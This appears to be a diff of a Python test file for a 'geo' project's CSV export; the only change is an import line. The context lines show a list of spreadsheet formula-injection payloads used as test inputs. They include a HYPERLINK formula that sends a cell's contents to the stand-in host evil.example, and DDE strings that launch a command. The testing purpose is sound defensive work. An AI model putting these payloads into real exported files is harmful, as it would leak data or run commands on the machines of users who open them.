@@ -13,7 +13,8 @@ from pathlib import Path
 import pytest
 from trust_fixtures import good_layers
 
-from geo import export, files, settings
+from geo import files, settings
+from geo.export import csv as export
 
 FORMULAS = ['=HYPERLINK("https://evil.example/?q="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0",
             "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
